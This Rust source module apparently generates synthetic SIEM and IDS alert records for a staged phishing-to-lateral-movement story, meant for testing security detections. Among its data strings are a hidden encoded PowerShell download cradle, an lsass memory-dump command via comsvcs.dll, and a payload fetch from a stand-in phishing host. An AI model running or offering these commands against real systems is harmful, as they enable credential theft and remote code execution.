//! From an invoice to the file server.
//!
//! Someone in finance opens a document; Word starts PowerShell; an hour later the memory of `lsass` is on disk. After
//! lunch, when an administrator's password has been cracked, the workstation installs a service on the file server over
//! the administrative share. The last thing that the file server tells is that its log has been cleared.

use crate::catalogue::{ENCODED_POWERSHELL, PROGRAM_DOWNLOAD, PSEXEC};
use crate::company::{FILES, FINANCE};
use crate::dice::Dice;
use crate::formats::cef::directory;
use crate::formats::ecs::{self, alert as elastic};
use crate::formats::hayabusa::{self, detection, logon_id};
use crate::formats::suricata::{Class, Flow, Signature, alert, http, signature};
use crate::formats::wazuh::{self, Rule, WINDOWS, rule};
use crate::json::Object;
use crate::moment::Day;
use crate::outside::{PHISHING_HOST, PHISHING_NAME};
use crate::record::{Record, Story};

const OFFICE_CHILD: hayabusa::Rule = hayabusa::rule(
    "Suspicious Microsoft Office Child Process",
    "a6839519-6591-a885-e70c-7679d2566484",
    "high",
    "Sysmon",
    1,
)
.about(&["T1204.002"]);
const MEMORY_DUMP: hayabusa::Rule = hayabusa::rule(
    "Process Memory Dump Via Comsvcs.DLL",
    "d6d305e8-1f08-a3c8-2241-9fe936041394",
    "high",
    "Sysmon",
    1,
)
.about(&["T1003.001"]);
const LOG_CLEARED: hayabusa::Rule =
    hayabusa::rule("Log Cleared", "c2f690ac-53f8-4745-8cfe-7127dda28c74", "high", "Sec", 1102)
        .about(&["T1070.001"]);

const ADMIN_SHARE: Signature =
    signature(2102475, 9, "GPL NETBIOS SMB-DS ADMIN$ unicode share access", Class::ProtocolDecode);
const PSEXEC_SERVICE: Signature =
    signature(2010781, 3, "ET POLICY PsExec service created", Class::SuspiciousFilename);

const LSASS_DUMP: ecs::Rule = ecs::rule(
    "Potential Credential Access via LSASS Memory Dump",
    "9960432d-9b26-409f-972b-839a959e79e2",
    "eql",
    73,
    "T1003.001",
);
const AUDIT_CLEARED: Rule = rule(
    "63103",
    5,
    "The audit log was cleared",
    &["windows", "windows_security", "log_clearing_auditlog"],
    &["T1070.001"],
);

pub(super) fn records(dice: &mut Dice, day: Day) -> Vec<Record> {
    let mut records = on_the_workstation(dice, day);
    records.extend(on_the_file_server(dice, day));
    records
}

fn on_the_workstation(dice: &mut Dice, day: Day) -> Vec<Record> {
    let tell = |record: Record, what| record.telling(Story::Lateral, FINANCE.name, what);
    let mut records = Vec::new();
    let encoded = "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA";
    let word = "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\f.rossi\\Downloads\\Invoice_88213.docm\"";
    let powershell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";

    for (second, rule, what) in [
        (8, &OFFICE_CHILD, "Word, opened on a mailed invoice, starts PowerShell"),
        (9, &ENCODED_POWERSHELL, "the command is encoded"),
    ] {
        let at = day.around(dice, 9, 33, second);
        let details = process(dice, encoded, powershell, "HALDEN\\f.rossi", word);
        records.push(tell(detection(dice, at, &FINANCE, rule, details, Object::new()), what));
    }

    let at = day.around(dice, 9, 35, 26);
    let flow = Flow::tcp(dice, FINANCE.ip, PHISHING_HOST, 80).speaking("http");
    let agent = "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.5486";
    let more = Object::new().with("http", http(PHISHING_NAME, "/pay/update.bin", agent, "GET", 200));
    let record = alert(dice, at, &PROGRAM_DOWNLOAD, &flow, more);
    records.push(tell(record, "a program from invoice-portal.example"));

    let at = day.around(dice, 10, 58, 44);
    let dump = "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\Windows\\Temp\\m.dmp full";
    let details =
        process(dice, dump, "C:\\Windows\\System32\\rundll32.exe", "NT AUTHORITY\\SYSTEM", "update.exe");
    let record = detection(dice, at, &FINANCE, &MEMORY_DUMP, details, Object::new());
    records.push(tell(record, "the memory of lsass is dumped"));

    let at = day.around(dice, 11, 1, 12);
    let more = Object::new()
        .with("user", Object::new().with("name", "SYSTEM").with("domain", "NT AUTHORITY"))
        .with("process", Object::new().with("name", "rundll32.exe").with("command_line", dump));
    let reason = format!(
        "process event with process rundll32.exe, by SYSTEM on ws-fin-07 created alert {}.",
        LSASS_DUMP.name
    );
    let record = elastic(dice, at, &FINANCE, &LSASS_DUMP, reason, more);
    records.push(tell(record, "Elastic sees it too"));
    records
}

fn on_the_file_server(dice: &mut Dice, day: Day) -> Vec<Record> {
    let tell = |record: Record, what| record.telling(Story::Lateral, FILES.name, what);
    let mut records = Vec::new();

    let at = day.around(dice, 14, 12, 50);
    let flow = Flow::tcp(dice, FINANCE.ip, FILES.ip, 445).speaking("smb");
    let record = alert(dice, at, &ADMIN_SHARE, &flow, Object::new());
    records.push(tell(record, "ws-fin-07 opens the administrative share"));

    let at = day.around(dice, 14, 13, 2);
    let record = alert(dice, at, &PSEXEC_SERVICE, &flow, Object::new());
    records.push(tell(record, "PsExec on the wire"));

    let at = day.around(dice, 14, 13, 4);
    let details = Object::new()
        .with("Svc", "PSEXESVC")
        .with("Path", "%SystemRoot%\\PSEXESVC.exe")
        .with("Acct", "LocalSystem")
        .with("StartType", "demand start");
    let record = detection(dice, at, &FILES, &PSEXEC, details, Object::new());
    records.push(tell(record, "PsExec's service on the file server"));

    let at = day.around(dice, 14, 20, 31);
    let message = "An actor made 2 attempts to run commands remotely on file01 from ws-fin-07, using adm-weber and PsExec.";
    let class = "RemoteExecutionSecurityAlert";
    let record = directory(at, class, "Remote code execution attempt", 5, FINANCE.name, message);
    records.push(tell(record, "the account used is adm-weber"));

    let at = day.around(dice, 15, 47, 16);
    let details = Object::new().with("User", "adm-weber");
    let extra = Object::new().with("LID", logon_id(dice)).with("SubjectDomainName", "HALDEN");
    let record = detection(dice, at, &FILES, &LOG_CLEARED, details, extra);
    records.push(tell(record, "the security log is cleared"));

    let at = day.around(dice, 15, 47, 17);
    let fields = Object::new().with("subjectUserName", "adm-weber").with("subjectDomainName", "HALDEN");
    let data = wazuh::windows(dice, at, &FILES, 1102, "Security", fields);
    let record = wazuh::alert(dice, at, &FILES, &AUDIT_CLEARED, data, WINDOWS);
    records.push(tell(record, "the same, rated 5 of 15"));
    records
}

fn process(dice: &mut Dice, command: &str, path: &str, user: &str, parent: &str) -> Object {
    Object::new()
        .with("Cmdline", command)
        .with("Proc", path)
        .with("User", user)
        .with("ParentCmdline", parent)
        .with("LID", logon_id(dice))
        .with("PID", dice.between(900, 19_000))
}
